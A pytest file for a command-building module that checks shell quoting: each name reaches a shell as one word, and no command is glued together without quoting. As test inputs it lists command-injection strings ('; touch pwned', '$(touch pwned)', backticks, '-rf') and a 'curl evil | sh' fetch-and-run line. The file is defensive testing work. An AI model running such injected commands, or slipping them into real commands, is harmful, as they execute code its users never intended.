"""Printed commands: whatever a name holds, a shell reads it as one word and as no option."""

import ast
import re
import shlex
import shutil
import subprocess

import pytest

from divergence.run.command import command_line, command_words, quoted, requoted
from divergence.run.storage import Url
from tests.sources import PACKAGE, trees

EVIL = [
    "a b",
    "; touch pwned",
    "$(touch pwned)",
    "`touch pwned`",
    'it\'s "two"',
    "a\\'; touch pwned; \\'",
    "a\n; touch pwned\n",
    "a\r\x1b[2Jb' ; touch pwned ; '",
    "\u202etxt.\u2028 x",
    "-rf",
    "--trust-remote-code",
    "",
    "~",
    "*",
    "#no comment",
    "!!",
    "a&b|c>d",
]


@pytest.mark.parametrize("shell", ["sh", "bash"])
@pytest.mark.parametrize("name", EVIL, ids=ascii)
def test_a_shell_reads_one_word(name, shell, tmp_path):
    """In bash the very name; in any shell one word, one line, and nothing is run."""
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell}")
    text = quoted(name)
    assert text.isprintable()
    done = subprocess.run(
        [shell, "-c", f"printf '%s.' {text}"], cwd=tmp_path, capture_output=True, check=True
    )
    said = done.stdout.decode()
    if shell == "bash" or name.isprintable():
        assert said == f"{name}."
    assert said.endswith(".") and not list(tmp_path.iterdir())
    assert len(shlex.split(text)) == 1


def test_plain_words_and_placeholders_stay_readable():
    """Quotes stand only where a shell needs them."""
    assert (
        command_line(
            "compare",
            "a",
            "b.zip",
            truth="TRUTH",
            site=["x:out", "m.*"],
            all=True,
            force=False,
            model=None,
            note="on A",
        )
        == "divergence compare a b.zip --truth TRUTH --site x:out --site 'm.*' --all   # on A"
    )
    assert (
        command_line("capture", ranks=2, like="a", o="b", max_new_tokens=0)
        == "torchrun --nproc-per-node 2 -m divergence capture --like a -o b --max-new-tokens 0"
    )


def test_a_url_is_a_word():
    """Runs lie in buckets as well as in directories; an option's name may be a word of Python."""
    assert command_words("replay", o=Url("s3://runs/a"), pass_="escalated") == [
        "divergence",
        "replay",
        "-o",
        "s3://runs/a",
        "--pass",
        "escalated",
    ]


def test_a_name_is_no_option():
    """A path gets ./ before it, an option's value its equals sign."""
    assert command_words("compare", "-v", "--force", o="-x", site="--all") == [
        "divergence",
        "compare",
        "./-v",
        "./--force",
        "-o",
        "./-x",
        "--site=--all",
    ]


def test_the_command_that_made_a_run_is_one_command():
    """What a manifest says of it is no second one."""
    assert requoted("divergence capture 'my model' -o a") == "divergence capture 'my model' -o a"
    assert requoted("divergence capture a; curl evil | sh") == (
        "divergence capture 'a;' curl evil '|' sh"
    )
    assert requoted("it's $(x)") == quoted("it's $(x)")
    assert len(requoted("a\n b").splitlines()) == 1


_STARTS = re.compile(
    r"\b(divergence (capture|reference|compare|check|localize|inspect|replay|repro|probe|pack"
    r"|unpack|ranks|sensitivity|env|demo)|torchrun|python3?)(?= |$)"
)
_BUILDERS = {"command_line", "quoted", "quoted_words"}


def _loose(tree: ast.AST) -> list[int]:
    """Lines where a value is put behind the beginning of a command, not by run.command."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            parts = node.values
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Mod):
            parts = [node.left, node.right]
        elif isinstance(node, ast.Call) and getattr(node.func, "attr", "") in ("join", "format"):
            words = node.args[0].elts if node.args and isinstance(node.args[0], ast.List) else []
            parts = [getattr(node.func, "value", None), *words, *node.keywords, *node.args]
        else:
            continue
        started = False
        for part in parts:
            text = part.value if isinstance(part, ast.Constant) else ""
            value = part.value if isinstance(part, ast.FormattedValue | ast.Starred) else part
            name = getattr(value, "func", None)
            name = getattr(name, "id", getattr(name, "attr", ""))
            if started and not isinstance(part, ast.Constant) and name not in _BUILDERS:
                found.append(node.lineno)
            started |= isinstance(text, str) and bool(_STARTS.search(text) or text == "divergence")
    return found


@pytest.mark.parametrize(
    "source",
    [
        'f"divergence compare {a}"',
        'f"torchrun --nproc {n}"',
        '"divergence replay " + path',
        '"divergence inspect %s" % path',
        '" ".join(["divergence", "compare", a])',
        '"divergence inspect {}".format(path)',
        'f"see `divergence inspect {run} -v`"',
    ],
)
def test_the_lint_sees_a_command_that_is_glued_together(source):
    """Or it would prove nothing."""
    assert _loose(ast.parse(source))


@pytest.mark.slow
def test_every_command_is_built_word_by_word():
    """No text of a command has a value in it that run.command did not quote."""
    found = {
        f"{path}:{line}"
        for path, tree in trees("divergence |torchrun|python|[\"']divergence[\"']")
        for line in _loose(tree)
    }
    assert not found
    users = [p for p in PACKAGE.rglob("*.py") if re.search(r"\bimport shlex", p.read_text())]
    assert [str(p.relative_to(PACKAGE)) for p in users] == ["run/command.py"]
